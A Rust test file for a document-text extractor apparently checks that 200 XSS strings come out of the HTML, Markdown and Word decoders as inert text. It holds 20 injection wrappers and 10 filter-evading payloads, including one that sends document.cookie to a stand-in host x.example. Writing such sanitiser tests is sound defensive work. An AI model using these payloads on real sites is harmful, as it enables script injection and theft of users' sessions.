//! Markup from a document is text or nothing, whichever way it comes in.

use tongbao::decode::Form;

use super::leave;
use super::word::{docx, plain};

/// Ways into a page, with a place for what would run.
const HOLDERS: [&str; 20] = [
    "<script>{}</script>",
    "<ScRiPt src=//x.example>{}</sCrIpT >",
    "<img src=x onerror={}>",
    "<svg onload={}>",
    "<svg><script>{}</script></svg>",
    "<math><mtext><style><img src onerror={}>",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<a href=javascript:{}>甲</a>",
    "<details open ontoggle={}>",
    "<body onload={}>",
    "<style>@import '{}'</style>",
    "<noscript><p title='</noscript><img src=x onerror={}>'>",
    "<template><script>{}</script></template>",
    "<!--><script>{}</script-->",
    "<textarea></textarea><img src=x onerror={}>",
    "<title></title><script>{}</script>",
    "<object data='data:text/html,{}'></object>",
    "<form action=javascript:{}><input type=submit autofocus onfocus={}>",
    "<xmp><p title='</xmp><img src=x onerror={}>'>",
    "<table><td background=javascript:{}>",
];

/// What would run.
const PAYLOADS: [&str; 10] = [
    "alert(1)",
    "alert`1`",
    "&#97;lert(1)",
    "\"alert(1)\"",
    "eval(atob('YWxlcnQoMSk='))",
    "window['al'+'ert'](1)",
    "javascript:alert(1)//",
    "\\u0061lert(1)",
    "fetch('//x.example/'+document.cookie)",
    "x</script><script>alert(1)",
];

/// The words that must come through whole before and after.
fn around(payload: &str) -> String {
    format!("<p>全年招商。</p>{payload}")
}

#[test]
fn two_hundred_payloads_are_text_only() {
    for (number, holder) in HOLDERS.iter().enumerate() {
        for (letter, payload) in ('a'..).zip(PAYLOADS) {
            let payload = holder.replace("{}", payload);
            let around = around(&payload);
            for ending in ["html", "txt", "md"] {
                leave(
                    &format!("payloads/{number}{letter}.{ending}"),
                    around.as_bytes(),
                );
            }
            let page = super::text(around.as_bytes(), Form::Html);
            assert!(page.starts_with("全年招商。"), "{payload}: {page}");
            assert!(
                !page.contains("<img") && !page.contains("<svg"),
                "{payload}: {page}"
            );
            let markdown = format!("全年招商。\n\n{payload}\n\n突破。");
            let markdown = super::text(markdown.as_bytes(), Form::Markdown);
            assert!(markdown.starts_with("全年招商。"), "{payload}: {markdown}");
            // In Word's text such words are words like all others.
            let word = super::text(&docx(&plain(&payload)), Form::Docx);
            assert_eq!(word, payload);
        }
    }
}
